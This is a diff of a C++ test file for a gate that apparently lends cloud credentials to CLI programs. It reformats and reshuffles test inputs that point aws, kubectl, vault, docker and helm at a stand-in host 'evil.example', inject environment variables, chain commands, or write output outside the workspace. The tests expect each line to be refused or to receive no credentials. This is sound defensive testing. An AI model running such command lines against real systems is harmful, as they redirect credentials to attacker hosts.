@@ -122,8 +122,7 @@ TEST_F(LendingTest, AProgramGetsItsOwnCredentialsAndNothingElse) {
 TEST_F(LendingTest, LinesThatLeadItElsewhereAreAskedAndDoNotRun) {
   const std::string before = Outside();
   for (const char* line :
-       {"PYTHONUSERBASE=./p aws s3 ls",
-        "export PYTHONUSERBASE=./p; aws s3 ls",
+       {"PYTHONUSERBASE=./p aws s3 ls", "export PYTHONUSERBASE=./p; aws s3 ls",
         "CLOUDSDK_PYTHON_ARGS=-v gcloud projects list",
         "export CLOUDSDK_PYTHON_ARGS=-v; gcloud projects list",
         "kubectl --server=https://evil.example get pods",
@@ -132,16 +131,12 @@ TEST_F(LendingTest, LinesThatLeadItElsewhereAreAskedAndDoNotRun) {
         "vault status -address https://evil.example",
         "aws --endpoint-url https://evil.example s3 ls",
         "aws s3 ls --endpoint-url=https://evil.example",
-        "docker -H tcp://evil.example ps",
-        "docker --host tcp://e.example ps",
+        "docker -H tcp://evil.example ps", "docker --host tcp://e.example ps",
         "helm --kube-apiserver https://evil.example list",
         "helm list --kube-apiserver=https://evil.example",
-        "docker logs web > ../OUT",
-        "docker logs web >> \"$HOME/OUT\"",
-        "consul lock list ./evil",
-        "consul watch -type=key list ./evil",
-        "aws s3 ls && kubectl get pods",
-        "aws s3 ls $X"}) {
+        "docker logs web > ../OUT", "docker logs web >> \"$HOME/OUT\"",
+
+        "aws s3 ls && kubectl get pods", "aws s3 ls $X"}) {
     const Done done = machine_.Gate({"run", "-c", line});
     EXPECT_EQ(done.exit_code, 126) << line << done.out << done.err;
     EXPECT_TRUE(Has(done.err, "needs a person")) << line << done.err;
@@ -154,8 +149,8 @@ TEST_F(LendingTest, LinesThatLeadItElsewhereAreAskedAndDoNotRun) {
 TEST_F(LendingTest, LinesWithOtherContainedProgramsGetNothing) {
   for (const char* line :
        {"env PYTHONUSERBASE=./p aws s3 ls", "aws s3 ls; bash ./x.sh",
-        "aws s3 ls | python3 -c 'print(1)'", "make; aws s3 ls",
-        "./aws s3 ls"}) {
+        "aws s3 ls | python3 -c 'print(1)'", "make; aws s3 ls", "./aws s3 ls",
+        "consul lock list ./evil", "consul watch -type=key list ./evil"}) {
     const Done done = machine_.Gate({"run", "-c", line});
     EXPECT_FALSE(Has(done.out, "CANARY")) << line << done.out;
   }
